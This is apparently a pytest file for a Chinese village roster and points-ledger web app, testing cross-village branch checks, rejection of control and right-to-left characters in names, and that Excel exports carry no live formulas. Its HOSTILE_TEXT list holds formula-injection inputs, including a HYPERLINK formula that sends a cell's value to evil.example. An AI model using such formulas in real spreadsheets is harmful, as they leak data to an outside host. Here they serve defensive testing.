"""Issue 27, items 5, 6 and 7: what a file or a form carries in. Branches are matched within
the row's village; text is held to one rule by the API and the import alike; every paper
writes text as text (never a live formula) and never fails on what is stored."""

import httpx
import pytest
from fastapi import FastAPI
from openpyxl import load_workbook
from sqlmodel import col, select, update

from app.china_time import to_china, utcnow
from app.models.roster import Household, Person
from tests.helpers.factories import World
from tests.helpers.papers import read_paper
from tests.helpers.points import award, make_rule
from tests.helpers.roster_files import roster_xlsx

IMPORTS = "/api/v1/admin/roster/imports"
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"详情")'
HOSTILE_TEXT = [FORMULA, "+1+2", "-3+4", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


def _formulas(data: bytes) -> list[str]:
    """Every cell of every sheet that Excel would evaluate."""
    import io

    book = load_workbook(io.BytesIO(data))
    return [
        f"{sheet.title}!{cell.coordinate}={cell.value!r}"
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]


async def test_a_row_cannot_join_another_villages_branch(
    client: httpx.AsyncClient, world: World
) -> None:
    """Village 2's admin names village 1's branch (一村党支部) for a village-2 Party member."""
    row = ["新党员", "13700000009", "", "二网格", "", "", "", "一村党支部", "是"]
    r = await client.post(
        IMPORTS,
        files={"file": ("花名册.xlsx", roster_xlsx([row]))},
        data={"dry_run": "false"},
        headers=world.auth("v2_admin"),
    )
    assert r.status_code == 201, r.text
    assert r.json()["status"] == "failed"
    [error] = r.json()["errors"]
    assert (error["column"], error["code"]) == ("党支部", "roster.unknown_branch")
    found = await client.get(
        "/api/v1/admin/people", params={"q": "13700000009"}, headers=world.auth("town_a_admin")
    )
    assert found.json()["items"] == []
    # Its own village's branch is found as before.
    row[7] = "二村党支部"
    ok = await client.post(
        IMPORTS,
        files={"file": ("花名册.xlsx", roster_xlsx([row]))},
        data={"dry_run": "false"},
        headers=world.auth("v2_admin"),
    )
    assert ok.json()["status"] == "applied", ok.text
    placed = await client.get(
        "/api/v1/admin/people", params={"q": "13700000009"}, headers=world.auth("v2_admin")
    )
    assert placed.json()["items"][0]["branch_id"] == world.ids["b2"]


BAD_NAMES = {
    "bell": "张\x07三",
    "start_of_heading": "\x01李四",
    "escape": "王\x1b[31m五",
    "right_to_left": "\u202e三张",
    "zero_width_only": "\u200b\u200b",
    "line_break": "赵\n六",
    "too_long": "钱" * 5000,
}


@pytest.mark.parametrize("kind", sorted(BAD_NAMES))
async def test_the_api_and_the_import_refuse_the_same_names(
    client: httpx.AsyncClient, world: World, kind: str
) -> None:
    name = BAD_NAMES[kind]
    made = await client.post(
        "/api/v1/admin/people",
        json={"name": name, "phone": "13700000001", "village_id": world.ids["v1"]},
        headers=world.auth("v1_admin"),
    )
    assert made.status_code == 422, made.text
    assert made.json()["errors"][0]["field"] == "name"
    csv = f"姓名,手机号\n{name.replace(chr(10), ' ')},13700000001\n".encode()
    if kind == "line_break":  # a quoted cell keeps its line break in a csv
        csv = f'姓名,手机号\n"{name}",13700000001\n'.encode()
    imported = await client.post(
        IMPORTS,
        files={"file": ("花名册.csv", csv)},
        data={"dry_run": "false"},
        headers=world.auth("v1_admin"),
    )
    if kind == "too_long":  # past any cell a roster has: the whole file is refused
        assert imported.status_code == 413, imported.text
        assert imported.json()["code"] == "roster.too_large"
        return
    assert imported.status_code == 201, imported.text
    assert imported.json()["status"] == "failed", imported.text
    assert any(e["column"] == "姓名" for e in imported.json()["errors"]), imported.text


async def test_other_titles_and_notes_follow_the_same_rule(
    client: httpx.AsyncClient, world: World
) -> None:
    await make_rule(client, world)
    rang = await award(client, world, note="已清扫\x07")
    assert rang.status_code == 422, rang.text
    two_lines = await award(client, world, note="已清扫。\n门前干净。")
    assert two_lines.status_code == 201, two_lines.text  # a note may have lines
    titled = await client.post(
        "/api/v1/admin/scoring-rules",
        json={
            "code": "odd",
            "title": "\u202e规则",
            "ledger": "household",
            "points": 1,
            "town_id": world.ids["town_a"],
        },
        headers=world.auth("town_a_admin"),
    )
    assert titled.status_code == 422, titled.text


async def test_no_paper_carries_a_live_formula(
    client: httpx.AsyncClient, world: World, app: FastAPI
) -> None:
    """Names, household heads and notes that start with = + - @ tab or CR come back as the text
    they are, in the roster and in the village's points ledger."""
    for index, text in enumerate(HOSTILE_TEXT):
        made = await client.post(
            "/api/v1/admin/people",
            json={
                "name": text.strip() or "x",
                "phone": f"1370000010{index}",
                "village_id": world.ids["v1"],
            },
            headers=world.auth("v1_admin"),
        )
        assert made.status_code in (201, 422), made.text
    async with app.state.sessionmaker() as session, session.begin():
        await session.execute(
            update(Household).where(col(Household.id) == world.ids["h1"]).values(head_name=FORMULA)
        )
    await make_rule(client, world)
    assert (await award(client, world, note=FORMULA)).status_code == 201
    roster = await client.get(
        "/api/v1/admin/people", params={"format": "xlsx"}, headers=world.auth("v1_admin")
    )
    assert roster.status_code == 200
    period = to_china(utcnow()).strftime("%Y-%m")
    ledger = await client.get(
        "/api/v1/admin/points/ledger",
        params={"period": period, "village_id": world.ids["v1"], "format": "xlsx"},
        headers=world.auth("v1_admin"),
    )
    assert ledger.status_code == 200, ledger.text
    for answer in (roster, ledger):
        assert _formulas(answer.content) == []
    names = read_paper(roster).column("姓名")
    assert FORMULA in names and "@SUM(A1:A9)" in names
    assert FORMULA in read_paper(ledger).sheet_named("明细").column("备注")


async def test_stored_control_characters_never_break_a_paper(
    client: httpx.AsyncClient, world: World, app: FastAPI
) -> None:
    """A name stored before this rule (or by a migration) with a bell and NUL in it: the roster
    still downloads, with the name as far as a cell can hold it."""
    async with app.state.sessionmaker() as session, session.begin():
        await session.execute(
            update(Person)
            .where(col(Person.id) == world.ids["v1_villager"])
            .values(name="张\x07三\x1b")
        )
        assert (
            await session.exec(
                select(Person.name).where(col(Person.id) == world.ids["v1_villager"])
            )
        ).one()
    r = await client.get(
        "/api/v1/admin/people", params={"format": "xlsx"}, headers=world.auth("v1_admin")
    )
    assert r.status_code == 200, r.text
    assert "张三" in read_paper(r).column("姓名")
